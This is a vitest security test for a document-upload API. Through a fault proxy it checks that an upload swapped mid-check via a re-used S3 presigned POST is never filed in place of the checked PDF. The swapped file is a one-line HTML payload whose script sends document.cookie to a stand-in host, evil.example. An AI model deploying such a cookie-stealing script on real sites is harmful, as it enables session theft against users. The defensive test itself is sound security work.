import { afterEach, describe, expect, it } from 'vitest';
import { samplePdf } from '../../local/sample-pdf.js';
import { type FaultProxy, startFaultProxy } from '../../test/fault-proxy.js';
import { must } from '../../test/must.js';
import { postFile } from '../../test/storage-post.js';
import { type TestApp, testApp } from '../../test/test-app.js';
import { TEST_BUCKET } from '../../test/test-constants.js';
import { generateCode, housing, phone } from '../add-document/fixtures/phone-client.js';

// SECURITY.md row 36: the presigned POST for an upload stays valid for minutes, so its owner can
// send another file to the same key while the API checks the first one. The bytes filed must be
// the bytes checked. The API reaches S3 through a fault proxy that holds one request of the
// completion, chosen by the rule, while the test re-POSTs an HTML page with the same presigned POST.
const HTML = '<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>';
type Post = { url: string; fields: Record<string, string> };

let proxy: FaultProxy | undefined;
afterEach(async () => {
  await proxy?.stop();
  proxy = undefined;
});

/** An app whose S3 traffic goes through a fault proxy `p` (stopped after each test). */
async function appBehindProxy() {
  const direct = await testApp();
  const p = await startFaultProxy(direct.endpoints.s3);
  proxy = p;
  return { t: await testApp({ S3_ENDPOINT: p.url }), p };
}

/** Holds the first S3 request after `after` has passed, once. */
function holdFirstRequestAfter(p: FaultProxy, after: 'start' | 'read') {
  let armed = after === 'start';
  let done = false;
  p.rule = (request) => {
    if (armed && !done && request.method !== 'POST') {
      done = true;
      return 'hold';
    }
    if (request.method === 'GET' && request.path.startsWith(`/${TEST_BUCKET}/`)) armed = true;
    return 'pass';
  };
}

async function downloaded(t: TestApp, cookie: string, documentId: string) {
  const link = await t.call('GET', `/api/procedures/${housing.procedureId}/documents/${documentId}/file`, {
    cookie,
  });
  expect(link.status).toBe(302);
  return Buffer.from(
    await (await fetch(must(link.headers.get('location'), "the file link's Location"))).arrayBuffer(),
  );
}

async function documentCount(t: TestApp, cookie: string) {
  const detail = await t.call('GET', `/api/procedures/${housing.procedureId}`, { cookie });
  return detail.json.documents.length as number;
}

/** Starts completing, swaps the object while the chosen request is held, then lets it finish. */
async function swapDuring<T>(p: FaultProxy, post: Post, complete: () => Promise<T>) {
  const answer = complete();
  await p.held();
  await postFile(post, HTML, 'application/pdf');
  p.release();
  return answer;
}

describe('an upload replaced while it is being checked (SECURITY.md row 36)', () => {
  const pdf = samplePdf('Checked');

  it.each(['read', 'start'] as const)(
    "'My computer': files the checked PDF or nothing, never the swapped HTML (swap after the %s)",
    async (when) => {
      const { t, p } = await appBehindProxy();
      const cookie = await t.signedIn();
      const before = await documentCount(t, cookie);
      const created = await t.call('POST', `/api/procedures/${housing.procedureId}/uploads`, {
        cookie,
        body: { action: 'add', typeId: 'other', contentType: 'application/pdf', size: pdf.byteLength },
      });
      await postFile(created.json, pdf, 'application/pdf');
      holdFirstRequestAfter(p, when);
      const answer = await swapDuring(p, created.json, () =>
        t.call('POST', `/api/procedures/${housing.procedureId}/uploads/${created.json.uploadId}/complete`, {
          cookie,
        }),
      );
      if (answer.status === 201) {
        const filed = answer.json.document;
        expect((await downloaded(t, cookie, filed.documentId)).toString('latin1')).toBe(
          Buffer.from(pdf).toString('latin1'),
        );
        expect(await documentCount(t, cookie)).toBe(before + 1);
      } else {
        expect(answer.status).toBe(422);
        expect(await documentCount(t, cookie)).toBe(before);
      }
      // Swapped after the read: the PDF was checked, so it is what gets filed.
      if (when === 'read') expect(answer.status).toBe(201);
    },
  );

  it.each(['read', 'start'] as const)(
    "'My mobile app': files the checked PDF or nothing, never the swapped HTML (swap after the %s)",
    async (when) => {
      const { t, p } = await appBehindProxy();
      const cookie = await t.signedIn();
      const before = await documentCount(t, cookie);
      const code = await generateCode(t, cookie);
      const mobile = phone(t, code.token);
      await mobile.claim();
      const post = await mobile.presign(pdf.byteLength);
      await postFile(post.json, pdf, 'application/pdf');
      holdFirstRequestAfter(p, when);
      const answer = await swapDuring(p, post.json, () => mobile.complete());
      const status = await code.status();
      if (answer.status === 201) {
        expect(status.state).toBe('filed');
        expect((await downloaded(t, cookie, status.document.documentId)).toString('latin1')).toBe(
          Buffer.from(pdf).toString('latin1'),
        );
        expect(await documentCount(t, cookie)).toBe(before + 1);
      } else {
        expect(answer.status).toBe(422);
        expect(await documentCount(t, cookie)).toBe(before);
      }
      if (when === 'read') expect(answer.status).toBe(201);
    },
  );
});
